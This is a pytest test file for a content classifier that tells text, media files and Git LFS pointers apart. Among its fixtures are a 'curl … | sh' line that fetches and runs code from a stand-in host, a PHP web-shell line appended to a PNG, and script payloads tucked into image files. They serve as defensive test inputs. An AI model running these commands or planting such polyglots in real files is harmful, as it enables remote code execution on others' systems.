import pytest
from hypothesis import given
from hypothesis import strategies as st

from panelist.content import is_lfs_line, is_lfs_pointer, is_media, text_of

SCRIPT = "#!/bin/sh\ncurl -s https://collector.example | sh\n"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 4
ELF = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4


@pytest.mark.parametrize(
    "encoding",
    ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"],
)
def test_a_script_is_text_in_every_encoding_that_a_machine_runs(encoding: str) -> None:
    assert text_of(SCRIPT.encode(encoding)) == SCRIPT


def test_nul_bytes_stay_where_they_are_and_hide_nothing() -> None:
    for hidden in (f"{SCRIPT}\0", SCRIPT.replace("\n", "\0\n"), SCRIPT + "\0" * 10_000):
        assert text_of(hidden.encode()) == hidden


def test_a_broken_character_does_not_take_the_rest_out_of_sight() -> None:
    assert text_of(SCRIPT.encode() + b"\xff") == f"{SCRIPT}\ufffd"
    assert text_of("Grüße".encode("latin-1") + SCRIPT.encode()) is not None
    assert text_of(SCRIPT.encode("utf-16") + b"\x00\xd8\x0a\x00") is not None


@pytest.mark.parametrize("content", [PNG, ELF, b"PK\x03\x04" + bytes(range(128, 256)) * 9])
def test_what_nobody_can_read_is_no_text(content: bytes) -> None:
    assert text_of(content) is None


def test_nothing_is_an_empty_text() -> None:
    assert text_of(b"") == ""


@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=200))
def test_what_is_text_to_everybody_is_text_here(text: str) -> None:
    if "\ufffd" not in text:
        assert text_of(text.encode()) == text.removeprefix("\ufeff")


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("logo.png", PNG),
        ("LOGO.PNG", PNG),
        ("a/photo.jpg", b"\xff\xd8\xff\xe0" + bytes(200)),
        ("a.gif", b"GIF89a\x01\0"),
        ("a.webp", b"RIFF\0\0\0\0WEBPVP8 "),
        ("favicon.ico", b"\0\0\1\0\1\0"),
        ("font.woff2", b"wOF2\0\1\0\0"),
        ("font.ttf", b"\0\1\0\0\0\x0f"),
        ("paper.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
        ("clip.mp4", b"\0\0\0\x20ftypisom"),
        ("song.mp3", b"ID3\x04\0"),
        ("de.mo", b"\xde\x12\x04\x95\0\0\0\0"),
    ],
)
def test_pictures_fonts_pages_sound_and_film_are_media(path: str, content: bytes) -> None:
    assert is_media(path, content)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("logo.png", ELF),
        ("logo.png", b"MZ\x90\0"),
        ("logo.png", SCRIPT.encode()),
        ("logo.so", PNG),
        ("png", PNG),
        ("logo.png.exe", PNG),
        ("logo.png", PNG + b"<?php system($_GET[0]);"),
        ("a.gif", b"GIF89a\x01\0<SCRIPT>alert(1)</SCRIPT>"),
        ("logo.png", PNG + b"\n#!/bin/sh\nevil\n"),
    ],
)
def test_a_name_a_beginning_or_a_program_inside_alone_make_no_media(
    path: str, content: bytes
) -> None:
    assert not is_media(path, content)


POINTER = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 5\n"


@pytest.mark.parametrize(
    "text",
    [
        POINTER,
        POINTER.replace("\n", "\r\n"),
        f"\n \n\u00a0{POINTER}",
        POINTER + "\n" * 5_000,
        POINTER.replace("https://git-lfs.github.com/spec/v1", "https://hawser.github.com/spec/v1"),
        POINTER.replace("https://git-lfs.github.com/spec/v1", "http://git-media.io/v/2"),
        POINTER.replace("\noid", f"\next-0-foo sha256:{'b' * 64}\noid"),
    ],
)
def test_what_git_lfs_takes_for_a_pointer_is_one(text: str) -> None:
    assert is_lfs_pointer(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "",
        "version 1\n",
        f"# How a pointer looks\n{POINTER}",
        f"version https://example.com/spec/v1\noid sha256:{'a' * 64}\nsize 5\n",
        " " * 2_000 + POINTER,
    ],
)
def test_what_git_lfs_leaves_alone_is_none(text: str) -> None:
    assert not is_lfs_pointer(text.encode())


def test_a_pointer_shows_in_the_line_that_begins_it_and_in_the_one_that_changes() -> None:
    version, oid, size = POINTER.splitlines()
    assert [is_lfs_line(line) for line in (version, oid, size)] == [True, True, False]
    assert is_lfs_line(f"{oid}\r")
    assert not is_lfs_line(f"the line `{oid}`")
